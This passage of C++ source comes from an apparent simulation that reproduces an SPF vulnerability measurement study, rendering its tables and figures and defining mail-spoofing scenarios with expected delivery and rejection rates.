    for (const auto& address : track.vulnerable_addresses) {
      if (!seen.insert(address).second) continue;
      const auto* point = fleet.geo().lookup(address);
      if (point == nullptr) continue;
      auto& stats = regions[point->region];
      ++stats.vulnerable;
      const auto* host = fleet.find_host(address);
      stats.patched += host != nullptr && host->is_patched();
    }
  }
  TextTable table({"Region", "Vulnerable IPs", "Patched IPs", "% Patched"},
                  {Align::Left, Align::Right, Align::Right, Align::Right});
  std::vector<std::pair<std::string, RegionStats>> sorted(regions.begin(),
                                                          regions.end());
  std::sort(sorted.begin(), sorted.end(), [](const auto& a, const auto& b) {
    return a.second.vulnerable > b.second.vulnerable;
  });
  for (const auto& [region, stats] : sorted) {
    table.add_row({region, with_commas(static_cast<long long>(stats.vulnerable)),
                   with_commas(static_cast<long long>(stats.patched)),
                   percent(static_cast<long long>(stats.patched),
                           static_cast<long long>(stats.vulnerable))});
  }
  return table;
}

TextTable fig4_rank_buckets(const Fleet& fleet,
                            const longitudinal::StudyReport& study,
                            Cohort cohort) {
  // Order the cohort's domains by their ranking metric, split into 20
  // equal-size buckets, and count vulnerable / eventually patched per bucket.
  struct Entry {
    std::size_t metric;
    bool vulnerable;
    bool patched;
  };
  std::map<std::size_t, const longitudinal::DomainTrack*> track_of;
  for (const auto& track : study.tracks) track_of[track.domain_index] = &track;

  std::vector<Entry> entries;
  entries.reserve(fleet.domains().size());
  for (std::size_t i = 0; i < fleet.domains().size(); ++i) {
    const DomainRecord& d = fleet.domains()[i];
    if (!domain_in(d, cohort)) continue;
    Entry entry;
    // Alexa: rank ascending = most popular first. MX: query count descending.
    entry.metric = cohort == Cohort::TwoWeekMx
                       ? std::numeric_limits<std::size_t>::max() -
                             d.mx_query_count
                       : d.alexa_rank;
    const auto it = track_of.find(i);
    entry.vulnerable = it != track_of.end();
    entry.patched = entry.vulnerable &&
                    it->second->final_status == longitudinal::FinalStatus::Patched;
    entries.push_back(entry);
  }
  std::sort(entries.begin(), entries.end(),
            [](const Entry& a, const Entry& b) { return a.metric < b.metric; });

  TextTable table({"Rank Bucket", "Domains", "Vulnerable", "Patched"},
                  {Align::Left, Align::Right, Align::Right, Align::Right});
  constexpr std::size_t kBuckets = 20;
  const std::size_t per_bucket =
      std::max<std::size_t>(1, entries.size() / kBuckets);
  for (std::size_t b = 0; b < kBuckets; ++b) {
    const std::size_t lo = b * per_bucket;
    if (lo >= entries.size()) break;
    const std::size_t hi =
        b + 1 == kBuckets ? entries.size() : std::min(entries.size(),
                                                      lo + per_bucket);
    std::size_t vulnerable = 0, patched = 0;
    for (std::size_t i = lo; i < hi; ++i) {
      vulnerable += entries[i].vulnerable;
      patched += entries[i].patched;
    }
    table.add_row({"bucket " + std::to_string(b + 1),
                   with_commas(static_cast<long long>(hi - lo)),
                   with_commas(static_cast<long long>(vulnerable)),
                   with_commas(static_cast<long long>(patched))});
  }
  return table;
}

TextTable fig5_conclusive_series(const Fleet& fleet,
                                 const longitudinal::StudyReport& study,
                                 Cohort cohort) {
  TextTable table({"Date", "Measured", "Inferable", "Vulnerable", "Patched",
                   "Total"},
                  {Align::Left, Align::Right, Align::Right, Align::Right,
                   Align::Right, Align::Right});
  for (std::size_t round = 0; round < study.round_times.size(); ++round) {
    const auto counts =
        longitudinal::Study::domain_counts_at(study, fleet, round, cohort);
    table.add_row({util::format_date(study.round_times[round]),
                   with_commas(static_cast<long long>(counts.measured)),
                   with_commas(static_cast<long long>(counts.inferable)),
                   with_commas(static_cast<long long>(counts.vulnerable)),
                   with_commas(static_cast<long long>(counts.patched)),
                   with_commas(static_cast<long long>(counts.total))});
  }
  return table;
}

TextTable fig67_vulnerability_series(const Fleet& fleet,
                                     const longitudinal::StudyReport& study,
                                     bool window1_only) {
  TextTable table(
      {"Date", "All", "Alexa Top List", "Alexa 1000", "2-Week MX"},
      {Align::Left, Align::Right, Align::Right, Align::Right, Align::Right});
  for (std::size_t round = 0; round < study.round_times.size(); ++round) {
    if (window1_only &&
        study.round_times[round] > population::paper::kMeasurementsPaused) {
      break;
    }
    std::vector<std::string> cells = {
        util::format_date(study.round_times[round])};
    for (const Cohort cohort : {Cohort::All, Cohort::AlexaTopList,
                                Cohort::Alexa1000, Cohort::TwoWeekMx}) {
      const auto counts =
          longitudinal::Study::domain_counts_at(study, fleet, round, cohort);
      cells.push_back(percent(static_cast<long long>(counts.vulnerable),
                              static_cast<long long>(counts.inferable), 1));
    }
    table.add_row(std::move(cells));
  }
  return table;
}

std::vector<double> vulnerability_series(const Fleet& fleet,
                                         const longitudinal::StudyReport& study,
                                         Cohort cohort) {
  std::vector<double> series;
  series.reserve(study.round_times.size());
  for (std::size_t round = 0; round < study.round_times.size(); ++round) {
    const auto counts =
        longitudinal::Study::domain_counts_at(study, fleet, round, cohort);
    series.push_back(counts.inferable == 0
                         ? 0.0
                         : 100.0 * static_cast<double>(counts.vulnerable) /
                               static_cast<double>(counts.inferable));
  }
  return series;
}

TextTable notification_funnel(const longitudinal::StudyReport& study) {
  TextTable table({"Stage", "Count", "Rate"},
                  {Align::Left, Align::Right, Align::Right});
  const auto& n = study.notification;
  table.add_row({"Notifications sent",
                 with_commas(static_cast<long long>(n.sent)), "100%"});
  table.add_row({"Returned undelivered",
                 with_commas(static_cast<long long>(n.bounced)),
                 percent(static_cast<long long>(n.bounced),
                         static_cast<long long>(n.sent), 1)});
  table.add_row({"Delivered",
                 with_commas(static_cast<long long>(n.delivered)),
                 percent(static_cast<long long>(n.delivered),
                         static_cast<long long>(n.sent), 1)});
  table.add_row({"Opened (tracking image)",
                 with_commas(static_cast<long long>(n.opened)),
                 percent(static_cast<long long>(n.opened),
                         static_cast<long long>(n.delivered), 1)});
  table.add_row(
      {"Openers eventually patched",
       with_commas(static_cast<long long>(study.opened_eventually_patched)),
       percent(static_cast<long long>(study.opened_eventually_patched),
               static_cast<long long>(std::max<std::size_t>(1, n.opened)), 1)});
  table.add_row(
      {"Openers patched between disclosures",
       with_commas(static_cast<long long>(
           study.opened_patched_between_disclosures)),
       percent(static_cast<long long>(study.opened_patched_between_disclosures),
               static_cast<long long>(std::max<std::size_t>(1, n.opened)), 1)});
  table.add_row(
      {"Unnotified patched between disclosures",
       with_commas(static_cast<long long>(
           study.bounced_patched_between_disclosures)),
       "-"});
  return table;
}

util::TextTable degradation_table(const faults::DegradationReport& report) {
  return report.to_table();
}

util::TextTable trace_summary(const net::TraceStats& stats) {
  TextTable table({"Wire trace", "Count"}, {Align::Left, Align::Right});
  const auto count = [](std::size_t n) {
    return with_commas(static_cast<long long>(n));
  };
  table.add_row({"Frames", count(stats.frames)});
  table.add_row({"SMTP commands", count(stats.smtp_commands)});
  table.add_row({"SMTP replies", count(stats.smtp_replies)});
  table.add_row({"DNS queries", count(stats.dns_queries)});
  table.add_row({"DNS responses", count(stats.dns_responses)});
  table.add_row({"Injected (faults)", count(stats.injected)});
  table.add_row({"Work lanes", count(stats.lanes)});
  table.add_row({"Endpoints", count(stats.endpoints)});
  const auto hop_rows = [&](const char* proto, const obs::Histogram& h) {
    if (h.count() == 0) return;
    const std::string prefix = std::string(proto) + " hop sim-latency ";
    table.add_row({prefix + "p50",
                   with_commas(static_cast<long long>(h.quantile(0.5)))});
    table.add_row({prefix + "p95",
                   with_commas(static_cast<long long>(h.quantile(0.95)))});
    table.add_row(
        {prefix + "max", with_commas(static_cast<long long>(h.max()))});
  };
  if (stats.smtp_hop_latency.count() > 0 ||
      stats.dns_hop_latency.count() > 0) {
    table.add_rule();
    hop_rows("SMTP", stats.smtp_hop_latency);
    hop_rows("DNS", stats.dns_hop_latency);
  }
  if (!stats.smtp_verbs.empty()) {
    table.add_rule();
    for (const auto& [verb, n] : stats.smtp_verbs) {
      table.add_row({"SMTP " + verb, count(n)});
    }
  }
  if (!stats.dns_rcodes.empty()) {
    table.add_rule();
    for (const auto& [rcode, n] : stats.dns_rcodes) {
      table.add_row({"DNS " + rcode, count(n)});
    }
  }
  return table;
}

util::TextTable scenario_outcomes(
    const std::vector<scenario::ScenarioReport>& reports) {
  TextTable table({"Scenario", "Outcome", "Value"},
                  {Align::Left, Align::Left, Align::Right});
  const auto count = [](std::uint64_t n) {
    return with_commas(static_cast<long long>(n));
  };
  bool first = true;
  for (const scenario::ScenarioReport& report : reports) {
    if (!first) table.add_rule();
    first = false;
    std::string label = report.name + " v" + std::to_string(report.version);
    const auto flow_rows = [&](const char* kind,
                               const scenario::FlowTally& tally) {
      table.add_row({std::exchange(label, ""), std::string(kind) + " flows",
                     count(tally.flows)});
      table.add_row({"", std::string(kind) + " delivered",
                     count(tally.delivered)});
      table.add_row({"", std::string(kind) + " rejected",
                     count(tally.rejected)});
    };
    table.add_row({std::exchange(label, ""), "domains staged",
                   count(report.domains_staged) +
                       (report.truncated ? " (truncated)" : "")});
    flow_rows("legit", report.legit);
    flow_rows("forwarded", report.forwarded);
    flow_rows("spoof", report.spoof);
    const std::uint64_t quarantined = report.legit.quarantined +
                                      report.forwarded.quarantined +
                                      report.spoof.quarantined;
    const std::uint64_t sampled_out = report.legit.dmarc_sampled_out +
                                      report.forwarded.dmarc_sampled_out +
                                      report.spoof.dmarc_sampled_out;
    table.add_row({"", "DMARC quarantined", count(quarantined)});
    table.add_row({"", "DMARC pct= sampled out", count(sampled_out)});
    const std::uint64_t legit_flows =
        report.legit.flows + report.forwarded.flows;
    const std::uint64_t all_flows = legit_flows + report.spoof.flows;
    table.add_row({"", "spoof delivered rate",
                   percent(static_cast<long long>(report.spoof.delivered),
                           static_cast<long long>(
                               std::max<std::uint64_t>(1, report.spoof.flows)),
                           1)});
    table.add_row({"", "spoof rejected rate",
                   percent(static_cast<long long>(report.spoof.rejected),
                           static_cast<long long>(
                               std::max<std::uint64_t>(1, report.spoof.flows)),
                           1)});
    table.add_row(
        {"", "legit rejected rate",
         percent(
             static_cast<long long>(report.legit.rejected +
                                    report.forwarded.rejected),
             static_cast<long long>(std::max<std::uint64_t>(1, legit_flows)),
             1)});
    table.add_row(
        {"", "SPF permerror rate",
         percent(static_cast<long long>(report.legit.spf_permerror +
                                        report.forwarded.spf_permerror +
                                        report.spoof.spf_permerror),
                 static_cast<long long>(std::max<std::uint64_t>(1, all_flows)),
                 1)});
    // Longitudinal series (DESIGN.md §17): the same flows replayed per study
    // round over the persistent receiver fleet. Rendered as sparklines plus
    // the final round's headline rate, so recurring re-measurement drift
    // (greylist warm-up, pct= sampling) is visible at a glance.
    if (report.rounds.size() > 1) {
      std::vector<double> spoof_series;
      std::vector<double> legit_series;
      for (const scenario::RoundTallies& round : report.rounds) {
        spoof_series.push_back(round.spoof_delivered_rate());
        legit_series.push_back(round.legit_rejected_rate());
      }
      table.add_row({"", "rounds measured",
                     count(static_cast<std::uint64_t>(report.rounds.size()))});
      table.add_row(
          {"", "spoof delivered by round", util::sparkline(spoof_series)});
      table.add_row(
          {"", "legit rejected by round", util::sparkline(legit_series)});
      const scenario::RoundTallies& last = report.rounds.back();
      table.add_row(
          {"", "final-round spoof delivered",
           percent(static_cast<long long>(last.spoof.delivered),
                   static_cast<long long>(
                       std::max<std::uint64_t>(1, last.spoof.flows)),
                   1)});
    }
  }
  return table;
}

util::TextTable metrics_summary(const obs::Registry& registry,
                                bool include_wall) {
  TextTable table({"Metric", "Kind", "Value"},
                  {Align::Left, Align::Left, Align::Right});
  const auto num = [](std::int64_t v) {
    return with_commas(static_cast<long long>(v));
  };
  for (const auto& [name, family] : registry.families()) {
    if (family.wall && !include_wall) continue;
    for (const auto& [labels, cell] : family.cells) {
      const std::string key = labels.empty() ? name : name + "{" + labels + "}";
      switch (family.kind) {
        case obs::MetricKind::Counter:
          table.add_row({key, "counter",
                         num(static_cast<std::int64_t>(cell.counter))});
          break;
        case obs::MetricKind::Gauge:
          table.add_row({key, "gauge", num(cell.gauge)});
          break;
        case obs::MetricKind::Histogram: {
          const obs::Histogram& h = cell.histogram;
          table.add_row(
              {key, "histogram",
               "n=" + num(static_cast<std::int64_t>(h.count())) +
                   " p50=" + num(h.quantile(0.5)) +
                   " p95=" + num(h.quantile(0.95)) + " max=" + num(h.max())});
          break;
        }
      }
    }
  }
  return table;
}

}  // namespace spfail::report
