// Shared fixture for the bench harness.
//
// Each bench binary needs some subset of {fleet, initial campaign report,
// full longitudinal study}; ReproSession builds them lazily. It is a thin
// veneer over session::ScanSession with the bench defaults (scale 0.1,
// every SPFAIL_* knob honoured via session::ScanConfig::from_env), so the
// whole harness can be re-run at the paper's full scale with
// `SPFAIL_SCALE=1`. Malformed SPFAIL_* values abort with a clear error
// instead of being silently coerced.
#pragma once

#include <optional>

#include "session/scan_session.hpp"

namespace spfail::report {

class ReproSession {
 public:
  // Scale resolution order: explicit argument > SPFAIL_SCALE env > 0.1.
  explicit ReproSession(std::optional<double> scale = std::nullopt);

  double scale() const noexcept { return session_.config().scale; }
  const session::ScanConfig& config() const noexcept {
    return session_.config();
  }

  population::Fleet& fleet() { return session_.fleet(); }

  // The 2021-10-11 initial measurement over the full fleet (cached).
  const scan::CampaignReport& initial() { return session_.initial(); }

  // The full longitudinal study (runs the initial measurement internally;
  // cached). Note: the study's campaign supersedes initial() — do not mix
  // the two on one session, use either initial() or study().
  const longitudinal::StudyReport& study() { return *session_.study(); }

  // A short banner describing the session (scale, seed, population sizes).
  std::string banner() { return session_.banner(); }

 private:
  static session::ScanConfig resolve(std::optional<double> scale);

  session::ScanSession session_;
};

}  // namespace spfail::report
