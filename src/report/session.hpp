// Shared fixture for the bench harness.
//
// Each bench binary needs some subset of {fleet, initial campaign report,
// full longitudinal study}; ReproSession builds them lazily and honours the
// SPFAIL_SCALE environment variable (0 < scale <= 1; default 0.1) so the
// whole harness can be re-run at the paper's full scale with
// `SPFAIL_SCALE=1`.
#pragma once

#include <memory>
#include <optional>

#include "longitudinal/study.hpp"
#include "population/fleet.hpp"
#include "scan/campaign.hpp"

namespace spfail::report {

class ReproSession {
 public:
  // Scale resolution order: explicit argument > SPFAIL_SCALE env > 0.1.
  explicit ReproSession(std::optional<double> scale = std::nullopt);

  double scale() const noexcept { return config_.scale; }

  population::Fleet& fleet();

  // The 2021-10-11 initial measurement over the full fleet (cached).
  const scan::CampaignReport& initial();

  // The full longitudinal study (runs the initial measurement internally;
  // cached). Note: the study's campaign supersedes initial() — do not mix
  // the two on one session, use either initial() or study().
  const longitudinal::StudyReport& study();

  // A short banner describing the session (scale, seed, population sizes).
  std::string banner();

 private:
  population::FleetConfig config_;
  std::unique_ptr<population::Fleet> fleet_;
  std::optional<scan::CampaignReport> initial_;
  std::optional<longitudinal::StudyReport> study_;
};

}  // namespace spfail::report
