// Renderers for every table and figure in the paper's evaluation.
//
// Each function takes the simulation artefacts (fleet, initial campaign
// report, longitudinal study report) and returns the text table whose rows
// mirror the paper's. The bench harness prints these; EXPERIMENTS.md records
// paper-value vs measured-value per row.
#pragma once

#include <string>

#include "longitudinal/study.hpp"
#include "net/trace_stats.hpp"
#include "obs/metrics.hpp"
#include "population/fleet.hpp"
#include "scenario/runner.hpp"
#include "util/table.hpp"

namespace spfail::report {

// Table 1: overlap in domain measurement sets (row set ∩ column set).
util::TextTable table1_overlap(const population::Fleet& fleet);

// Table 2: most common TLDs per domain set (top 15).
util::TextTable table2_tlds(const population::Fleet& fleet);

// Table 3: NoMsg/BlankMsg funnel by domain set (domains and addresses), plus
// the Top-Email-Providers domain column.
util::TextTable table3_outcomes(const population::Fleet& fleet,
                                const scan::CampaignReport& initial);

// Table 4: initial SPF results breakdown (vulnerable / erroneous / compliant
// of conclusively measured, per set).
util::TextTable table4_breakdown(const population::Fleet& fleet,
                                 const scan::CampaignReport& initial);

// Table 5: best/worst TLD patch rates among TLDs with >= threshold initially
// vulnerable domains (threshold scales with the fleet).
util::TextTable table5_tld_patch(const population::Fleet& fleet,
                                 const longitudinal::StudyReport& study);

// Table 6: package-manager patch latencies (static feed).
util::TextTable table6_pkgmgr();

// Table 7: SPF macro-expansion behaviour census by IP address.
util::TextTable table7_behaviors(const population::Fleet& fleet,
                                 const scan::CampaignReport& initial);

// Figure 2: final patched/vulnerable/unknown distribution per cohort.
util::TextTable fig2_final_distribution(const population::Fleet& fleet,
                                        const longitudinal::StudyReport& study);

// Figure 3: geographic buckets — vulnerable addresses and patch rates.
util::TextTable fig3_geography(const population::Fleet& fleet,
                               const longitudinal::StudyReport& study);

// Figure 4: vulnerable/patched domains across 20 rank buckets, one table per
// ranking metric (Alexa rank; 2-Week MX query count).
util::TextTable fig4_rank_buckets(const population::Fleet& fleet,
                                  const longitudinal::StudyReport& study,
                                  longitudinal::Cohort cohort);

// Figure 5 (and Fig 8 when cohort = Alexa1000): conclusive and inferred
// domain counts per measurement round.
util::TextTable fig5_conclusive_series(const population::Fleet& fleet,
                                       const longitudinal::StudyReport& study,
                                       longitudinal::Cohort cohort);

// Figures 6/7: percent-vulnerable (of inferable) per cohort per round;
// window1_only selects Figure 6's zoomed first window.
util::TextTable fig67_vulnerability_series(
    const population::Fleet& fleet, const longitudinal::StudyReport& study,
    bool window1_only);

// §7.7: the private-notification funnel.
util::TextTable notification_funnel(const longitudinal::StudyReport& study);

// The raw percent-vulnerable-of-inferable series for one cohort (the numbers
// behind Figures 6/7) — used for sparklines and CSV export.
std::vector<double> vulnerability_series(const population::Fleet& fleet,
                                         const longitudinal::StudyReport& study,
                                         longitudinal::Cohort cohort);

// Graceful-degradation summary for a fault-injected run (campaign- or
// study-wide): injected fault mix, retry/re-queue recovery, conclusive rate.
util::TextTable degradation_table(const faults::DegradationReport& report);

// `spfail_scan --trace` summary: frame counts by kind, per-protocol hop
// sim-latency quantiles, the SMTP verb and DNS rcode mixes, distinct
// lanes/endpoints, and the injected-frame share.
util::TextTable trace_summary(const net::TraceStats& stats);

// `spfail_scan --scenario` summary: per configured ScenarioSpec, the flow
// tallies (legit / forwarded / spoof) and the four oracle rates the spec's
// windows constrain. One block per report, in configuration order.
util::TextTable scenario_outcomes(
    const std::vector<scenario::ScenarioReport>& reports);

// `spfail_scan --metrics` summary: one row per metric cell — counters and
// gauges with their value, histograms with count/p50/p95/max in simulated
// units. Wall-clock families are skipped unless `include_wall`; rows follow
// the registry's ordered-map iteration, so the table is deterministic.
util::TextTable metrics_summary(const obs::Registry& registry,
                                bool include_wall = false);

}  // namespace spfail::report
