#include "report/session.hpp"

#include <cstdlib>
#include <sstream>

#include "util/strings.hpp"

namespace spfail::report {

ReproSession::ReproSession(std::optional<double> scale) {
  double resolved = 0.1;
  if (scale.has_value()) {
    resolved = *scale;
  } else if (const char* env = std::getenv("SPFAIL_SCALE")) {
    const double parsed = std::atof(env);
    if (parsed > 0.0 && parsed <= 1.0) resolved = parsed;
  }
  config_.scale = resolved;
}

population::Fleet& ReproSession::fleet() {
  if (!fleet_) fleet_ = std::make_unique<population::Fleet>(config_);
  return *fleet_;
}

const scan::CampaignReport& ReproSession::initial() {
  if (!initial_.has_value()) {
    scan::CampaignConfig campaign_config;
    campaign_config.prober.responder = fleet().responder();
    // SPFAIL_FAULT_SEED / SPFAIL_FAULT_RATE reach every bench through here;
    // the default (rate 0) keeps all outputs byte-identical.
    campaign_config.faults = faults::FaultConfig::from_env();
    scan::Campaign campaign(campaign_config, fleet().dns(), fleet().clock(),
                            fleet());
    initial_ = campaign.run(fleet().targets());
  }
  return *initial_;
}

const longitudinal::StudyReport& ReproSession::study() {
  if (!study_.has_value()) {
    longitudinal::StudyConfig study_config;
    study_config.faults = faults::FaultConfig::from_env();
    longitudinal::Study study_runner(fleet(), study_config);
    study_ = study_runner.run();
    // The study ran its own initial campaign; expose it through initial().
    initial_ = study_->initial;
  }
  return *study_;
}

std::string ReproSession::banner() {
  std::ostringstream os;
  os << "SPFail reproduction | scale=" << config_.scale
     << " (set SPFAIL_SCALE=1 for the paper's full population) | domains="
     << util::with_commas(static_cast<long long>(fleet().domains().size()))
     << " addresses="
     << util::with_commas(static_cast<long long>(fleet().address_count()));
  return os.str();
}

}  // namespace spfail::report
