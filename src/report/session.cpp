#include "report/session.hpp"

namespace spfail::report {

session::ScanConfig ReproSession::resolve(std::optional<double> scale) {
  session::ScanConfig defaults;
  defaults.scale = 0.1;
  session::ScanConfig config = session::ScanConfig::from_env(defaults);
  if (scale.has_value()) {
    config.scale = *scale;
    config.validate();
  }
  return config;
}

ReproSession::ReproSession(std::optional<double> scale)
    : session_(resolve(scale)) {}

}  // namespace spfail::report
