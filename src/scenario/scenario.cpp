#include "scenario/scenario.hpp"

#include <algorithm>
#include <set>
#include <stdexcept>

#include "util/strings.hpp"

namespace spfail::scenario {

std::string to_string(Focus focus) {
  switch (focus) {
    case Focus::Baseline:
      return "baseline";
    case Focus::Forwarding:
      return "forwarding";
    case Focus::Alignment:
      return "alignment";
    case Focus::Misconfig:
      return "misconfig";
  }
  return "?";
}

Focus parse_focus(std::string_view text) {
  if (text == "baseline") return Focus::Baseline;
  if (text == "forwarding") return Focus::Forwarding;
  if (text == "alignment") return Focus::Alignment;
  if (text == "misconfig") return Focus::Misconfig;
  throw std::invalid_argument("unknown scenario Focus '" + std::string(text) +
                              "'");
}

const std::vector<ScenarioSpec>& builtin_scenarios() {
  static const std::vector<ScenarioSpec> kScenarios = [] {
    std::vector<ScenarioSpec> out;

    {
      ScenarioSpec spec;
      spec.name = "baseline";
      spec.version = 1;
      spec.summary = "the paper's population, nothing staged (control)";
      spec.focus = Focus::Baseline;
      spec.mix = population::PolicyMix::paper_baseline();
      // Zero flows: every window is the degenerate [0, 0].
      out.push_back(std::move(spec));
    }

    {
      ScenarioSpec spec;
      spec.name = "forwarding";
      spec.version = 1;
      spec.summary =
          "forwarder hops preserve or SRS-rewrite MAIL FROM (Forward Pass)";
      spec.focus = Focus::Forwarding;
      spec.mix = population::PolicyMix::forwarding();
      // Plain-forwarded mail SPF-fails at 60% of receivers; SRS and aligned
      // DKIM pull the legit-rejected rate back down. Spoof still lands at
      // the ~40% of receivers that don't reject SPF fail outright and have
      // no reject-policy DMARC check to fall back on.
      spec.oracle.spoof_delivered = {0.20, 0.50};
      spec.oracle.spoof_rejected = {0.50, 0.80};
      spec.oracle.legit_rejected = {0.15, 0.55};
      spec.oracle.permerror = {0.0, 0.02};
      out.push_back(std::move(spec));
    }

    {
      ScenarioSpec spec;
      spec.name = "alignment";
      spec.version = 1;
      spec.summary =
          "SPF-misaligned ESP envelopes vs (mis)aligned DKIM under DMARC "
          "pct= (Weak Links)";
      spec.focus = Focus::Alignment;
      spec.mix = population::PolicyMix::alignment();
      // Legit ESP mail passes SPF on the bounce domain, so rejection only
      // comes from DMARC-checking receivers seeing no aligned pass — rare
      // once aligned DKIM and pct=60 sampling thin it out. Spoof mail
      // SPF-fails and additionally trips published reject policies.
      spec.oracle.spoof_delivered = {0.15, 0.50};
      spec.oracle.spoof_rejected = {0.50, 0.85};
      spec.oracle.legit_rejected = {0.0, 0.15};
      spec.oracle.permerror = {0.0, 0.02};
      out.push_back(std::move(spec));
    }

    {
      ScenarioSpec spec;
      spec.name = "misconfig";
      spec.version = 1;
      spec.summary =
          "+all, over-broad CIDRs, >10-lookup include chains (Lazy "
          "Gatekeepers)";
      spec.focus = Focus::Misconfig;
      spec.mix = population::PolicyMix::misconfig();
      // Every focus domain's record lets the attacker straight through:
      // +all and the /8 both match the spoofed client, and the long chain
      // permerrors — which no receiver treats as Fail. The permerror window
      // is the long-chain share of focus domains (4 of 16), seen on both
      // the legit and the spoof flow.
      spec.oracle.spoof_delivered = {0.90, 1.0};
      spec.oracle.spoof_rejected = {0.0, 0.10};
      spec.oracle.legit_rejected = {0.0, 0.05};
      spec.oracle.permerror = {0.12, 0.40};
      out.push_back(std::move(spec));
    }

    return out;
  }();
  return kScenarios;
}

const ScenarioSpec* find_scenario(std::string_view name) {
  for (const ScenarioSpec& spec : builtin_scenarios()) {
    if (spec.name == name) return &spec;
  }
  return nullptr;
}

namespace {

std::string valid_names() {
  std::string out;
  for (const ScenarioSpec& spec : builtin_scenarios()) {
    if (!out.empty()) out += ", ";
    out += spec.name;
  }
  return out;
}

}  // namespace

std::vector<ScenarioSpec> parse_scenario_list(std::string_view csv) {
  std::vector<ScenarioSpec> out;
  std::set<std::string> seen;
  for (const std::string_view token : util::split(csv, ',')) {
    const std::string name(util::trim(token));
    if (name.empty()) {
      throw std::invalid_argument(
          "empty scenario name (valid: " + valid_names() + ")");
    }
    if (!seen.insert(name).second) {
      throw std::invalid_argument("duplicate scenario '" + name + "'");
    }
    const ScenarioSpec* spec = find_scenario(name);
    if (spec == nullptr) {
      throw std::invalid_argument("unknown scenario '" + name +
                                  "' (valid: " + valid_names() + ")");
    }
    out.push_back(*spec);
  }
  if (out.empty()) {
    throw std::invalid_argument(
        "no scenario named (valid: " + valid_names() + ")");
  }
  return out;
}

population::PolicyMix resolve_mix(const std::vector<ScenarioSpec>& specs) {
  if (specs.empty()) return population::PolicyMix::paper_baseline();

  population::PolicyMix out = specs.front().mix;
  // Receiver rates must agree — the merged fleet can only have one set.
  for (const ScenarioSpec& spec : specs) {
    const population::PolicyMix& mix = spec.mix;
    if (mix.greylist_rate != out.greylist_rate ||
        mix.dmarc_check_rate != out.dmarc_check_rate ||
        mix.flaky_rate != out.flaky_rate ||
        mix.admin_recipient_rate != out.admin_recipient_rate ||
        mix.reject_spf_fail_rate != out.reject_spf_fail_rate ||
        mix.multi_stack_rate != out.multi_stack_rate) {
      throw std::invalid_argument("scenario '" + spec.name +
                                  "' disagrees on receiver rates; specs with "
                                  "different receiver populations cannot be "
                                  "merged");
    }
  }

  // Sender rates add; DMARC shares combine publish-weighted; pct= takes the
  // strictest (minimum) of the publishing specs.
  out.forward_plain_rate = 0.0;
  out.forward_srs_rate = 0.0;
  out.esp_envelope_rate = 0.0;
  out.dkim_aligned_rate = 0.0;
  out.dkim_misaligned_rate = 0.0;
  out.dmarc_publish_rate = 0.0;
  out.dmarc_reject_share = 0.0;
  out.dmarc_quarantine_share = 0.0;
  out.dmarc_pct = 100;
  out.spf_plus_all_rate = 0.0;
  out.spf_broad_cidr_rate = 0.0;
  out.spf_long_chain_rate = 0.0;

  double reject_weight = 0.0, quarantine_weight = 0.0;
  for (const ScenarioSpec& spec : specs) {
    const population::PolicyMix& mix = spec.mix;
    out.forward_plain_rate += mix.forward_plain_rate;
    out.forward_srs_rate += mix.forward_srs_rate;
    out.esp_envelope_rate += mix.esp_envelope_rate;
    out.dkim_aligned_rate = std::max(out.dkim_aligned_rate,
                                     mix.dkim_aligned_rate);
    out.dkim_misaligned_rate = std::max(out.dkim_misaligned_rate,
                                        mix.dkim_misaligned_rate);
    out.spf_plus_all_rate += mix.spf_plus_all_rate;
    out.spf_broad_cidr_rate += mix.spf_broad_cidr_rate;
    out.spf_long_chain_rate += mix.spf_long_chain_rate;
    if (mix.dmarc_publish_rate > 0.0) {
      out.dmarc_publish_rate =
          std::max(out.dmarc_publish_rate, mix.dmarc_publish_rate);
      reject_weight += mix.dmarc_publish_rate * mix.dmarc_reject_share;
      quarantine_weight +=
          mix.dmarc_publish_rate * mix.dmarc_quarantine_share;
      out.dmarc_pct = std::min(out.dmarc_pct, mix.dmarc_pct);
    }
  }
  double publish_total = 0.0;
  for (const ScenarioSpec& spec : specs) {
    publish_total += spec.mix.dmarc_publish_rate;
  }
  if (publish_total > 0.0) {
    out.dmarc_reject_share = reject_weight / publish_total;
    out.dmarc_quarantine_share = quarantine_weight / publish_total;
  }

  out.validate();
  return out;
}

}  // namespace spfail::scenario
