// The scenario mail-flow runner: drives real SMTP dialogs through staged
// fleets and tallies the outcomes the scenario oracles constrain.
//
// For every staged domain a spec's Focus selects, the runner plays the
// domain's legitimate delivery (routed per its SenderPolicy — direct, via
// the forwarder hop with or without SRS, or via the ESP) and one spoofed
// delivery (the fixed attacker address using the domain's identity, no
// DKIM). Receivers are real fleet MailHosts: their SPF engines, the new
// dmarc::Evaluator (DKIM verification, alignment, pct= sampling), greylist
// and recipient policy all run exactly as they do under the scanner.
//
// Determinism contract: the runner is single-threaded and a pure function
// of (fleet, spec, options) — receiver choice is an FNV hash of the domain
// name and flow class over the fleet's sorted receiver list, message bodies
// are fixed, and the pct= lanes are stateless. Reports are therefore
// bit-identical across thread counts, schedulers, worker counts, and
// halt/resume, with no coordination needed.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "population/fleet.hpp"
#include "scenario/scenario.hpp"

namespace spfail::scenario {

// How a flow reached the receiver.
enum class FlowClass {
  Legit,      // the domain's own mail: direct or ESP envelope
  Forwarded,  // the domain's own mail after the forwarder hop
  Spoof,      // the attacker using the domain's identity
};

std::string to_string(FlowClass flow);
// Strict inverse of to_string; throws std::invalid_argument on unknown text.
FlowClass parse_flow_class(std::string_view text);

struct FlowTally {
  std::uint64_t flows = 0;
  std::uint64_t delivered = 0;    // final "." accepted (2xx)
  std::uint64_t rejected = 0;     // any step answered 4xx/5xx
  std::uint64_t quarantined = 0;  // delivered, but DMARC said quarantine
  std::uint64_t spf_permerror = 0;   // receiver's primary SPF permerrored
  std::uint64_t dmarc_sampled_out = 0;  // pct= excluded a failing message

  friend bool operator==(const FlowTally&, const FlowTally&) = default;
};

// The three flow tallies one measurement round produced — one entry of the
// per-round longitudinal series (round 0 is the initial state).
struct RoundTallies {
  FlowTally legit;
  FlowTally forwarded;
  FlowTally spoof;

  double spoof_delivered_rate() const noexcept;
  double legit_rejected_rate() const noexcept;

  friend bool operator==(const RoundTallies&, const RoundTallies&) = default;
};

struct ScenarioReport {
  std::string name;  // spec name
  int version = 1;
  std::uint64_t domains_staged = 0;  // focus domains the runner exercised
  bool truncated = false;  // focus set exceeded RunnerOptions::max_domains
  FlowTally legit;
  FlowTally forwarded;
  FlowTally spoof;

  // Longitudinal series: rounds[0] equals the initial tallies above; each
